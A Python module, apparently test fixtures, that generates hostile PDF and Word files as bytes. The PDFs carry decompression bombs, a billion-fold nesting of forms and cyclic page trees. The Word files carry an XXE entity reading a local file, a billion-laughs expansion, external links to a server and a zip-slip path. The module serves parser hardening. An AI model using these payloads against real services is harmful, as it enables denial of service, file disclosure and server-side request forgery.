"""Files that were made to do harm, as bytes."""

import io
import zipfile
import zlib

import docx

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F<</Type/Font/Subtype/Type1\
/BaseFont/Helvetica>>>>/XObject<</X 5 0 R>>>>>>"
WORDS = b"BT /F 12 Tf 60 700 Td (Mentorer hjalp borgerne i job.) Tj ET\n"
CHUNK = 10_000_000
GIGABYTES = 1
PAGES = 200


def bomb(unit: bytes = b" ") -> bytes:
    """A zlib stream of some megabytes that unpacks to gigabytes of one character."""
    packer = zlib.compressobj(9)
    start = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    chunk = packer.compress(unit * CHUNK) + packer.flush(zlib.Z_FULL_FLUSH)
    return start + chunk * (GIGABYTES * 10**9 // CHUNK)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def pdf(*objects: bytes, root: bytes = b"1 0 R") -> bytes:
    """A PDF of these objects, numbered from 1."""
    out = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    trailer = b"trailer<</Size %d/Root %s>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, root, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + trailer


def one_page(contents: bytes, thing: bytes = b"null", page: bytes = PAGE, *more: bytes) -> bytes:
    """A PDF with a page of these contents, and a thing that it may show."""
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, contents, thing, *more)


def contents_of_gigabytes() -> bytes:
    return one_page(stream(bomb(), b"/Filter/FlateDecode"))


def contents_packed_thrice() -> bytes:
    packed = zlib.compress(zlib.compress(bomb()))
    return one_page(stream(packed, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"))


def picture(side: int, packed: bytes) -> bytes:
    shape = b"/Type/XObject/Subtype/Image/ColorSpace/DeviceGray/BitsPerComponent 8"
    return stream(packed, shape + b"/Width %d/Height %d/Filter/FlateDecode" % (side, side))


def picture_of_gigabytes() -> bytes:
    return one_page(stream(b"500 0 0 500 0 0 cm /X Do"), picture(31_000, bomb()))


def picture_of_gigabytes_beside_text() -> bytes:
    return one_page(stream(WORDS + b"500 0 0 500 0 0 cm /X Do"), picture(31_000, bomb()))


def objects_of_gigabytes() -> bytes:
    page = PAGE.replace(b"4 0 R", b"9 0 R")
    packed = stream(bomb(), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    body = one_page(packed, b"null", page)
    return body[: body.rindex(b"xref\n0")] + _cross_reference_stream(body)


def _cross_reference_stream(body: bytes) -> bytes:
    entries = [(0, 0, 0)]
    entries += [(1, body.index(b"%d 0 obj" % number), 0) for number in range(1, 6)]
    entries += [(0, 0, 0)] * 3 + [(2, 4, 0)]  # object 9 is the first in stream 4
    table = b"".join(kind.to_bytes(1) + at.to_bytes(4) + last.to_bytes(1) for kind, at, last in entries)
    at = body.rindex(b"xref\n0")
    made = stream(table, b"/Type/XRef/W[1 4 1]/Size 10/Root 1 0 R")
    return b"10 0 obj\n" + made + b"\nendobj\nstartxref\n%d\n%%%%EOF" % at


def forms_in_forms() -> bytes:
    """Thirty forms, each of which shows the next twice: a thousand million in all."""
    forms = [
        stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % number)
        for number in range(6, 36)
    ]
    return one_page(stream(b"/X Do"), *[forms[0], PAGE, *forms[1:]], stream(WORDS))


def deep_arrays() -> bytes:
    return one_page(stream(WORDS), b"[" * 200_000)


def deep_contents() -> bytes:
    return one_page(stream(b"[" * 200_000 + b"<<" * 200_000))


def pages_in_a_ring() -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Pages/Count 1/Kids[2 0 R]>>"
    )


def outline_in_a_ring() -> bytes:
    title = b"<</Title(A)/Parent 6 0 R/Next 7 0 R/First 7 0 R/Dest[3 0 R/Fit]>>"
    body = one_page(stream(WORDS), b"null", PAGE, b"<</Type/Outlines/First 7 0 R/Last 7 0 R>>", title)
    return body.replace(b"/Catalog", b"/Catalog/Outlines 6 0 R", 1)


def million_words() -> bytes:
    rows = (b"0 -10 Td (%s) Tj\n" % (b"borgere i job " * 5) for _ in range(1_000_000 // 15))
    return one_page(stream(b"BT /F 6 Tf 20 830 Td " + b"".join(rows) + b"ET"))


def thousands_of_pages() -> bytes:
    places = b" ".join(b"%d 0 R" % number for number in [3, *range(6, PAGES + 5)])
    body = one_page(stream(WORDS), b"null", PAGE, *[PAGE] * (PAGES - 1))
    return body.replace(b"/Count 1/Kids[3 0 R]", b"/Count %d/Kids[%s]" % (PAGES, places))


def word(*changes: tuple[str, bytes, bytes], **more: bytes) -> bytes:
    """A Word file of one paragraph in which parts were changed: (part, what, into what), or added."""
    made = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Mentorer hjalp borgerne i job.")
    document.save(made)
    out = io.BytesIO()
    with zipfile.ZipFile(made) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            for part, what, into in changes:
                assert part != name or what in content
                content = content.replace(what, into) if part == name else content
            new.writestr(name, content)
        for name, content in more.items():
            new.writestr(name, content)
    return out.getvalue()


BODY = "word/document.xml"
DECLARATION = b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>"


def word_with(types: bytes, text: bytes) -> bytes:
    """A Word file with these declarations of entities and this text."""
    declared = (BODY, DECLARATION, DECLARATION + b"<!DOCTYPE d [" + types + b"]>")
    return word(declared, (BODY, b"Mentorer hjalp", b"Mentorer " + text + b" hjalp"))


def word_that_names_a_file(path: str) -> bytes:
    return word_with(b'<!ENTITY x SYSTEM "file://%s">' % path.encode(), b"&x;")


def word_of_a_thousand_million_laughs() -> bytes:
    laughs = b'<!ENTITY l0 "ha">' + b"".join(
        b'<!ENTITY l%d "%s">' % (number, b"&l%d;" % (number - 1) * 10) for number in range(1, 10)
    )
    return word_with(laughs, b"&l9;")


def word_with_links(url: str) -> bytes:
    """A Word file whose picture and whose template lie on a server."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = "".join(
        f'<Relationship Id="out{name}" Type="{kind}/{name}" Target="{url}/{name}" TargetMode="External"/>'
        for name in ("image", "attachedTemplate", "footnotes")
    )
    return word(("word/_rels/document.xml.rels", b"</Relationships>", links.encode() + b"</Relationships>"))


def word_in_word() -> bytes:
    """A Word file with tables in tables, deeper than any parser of XML goes."""
    row = b"<w:tbl><w:tr><w:tc>"
    end = b"</w:tc></w:tr></w:tbl>"
    return word((BODY, b"<w:body>", b"<w:body>" + row * 50_000 + end * 50_000))


def word_of_gigabytes() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        for number in range(30):
            package.writestr(f"word/media/{number}.xml", bytes(CHUNK))
    return out.getvalue()


def word_that_climbs() -> bytes:
    """A Word file with a part that would lie above the folder into which it were unpacked."""
    return word(**{"../../../climbed.txt": b"climbed"})
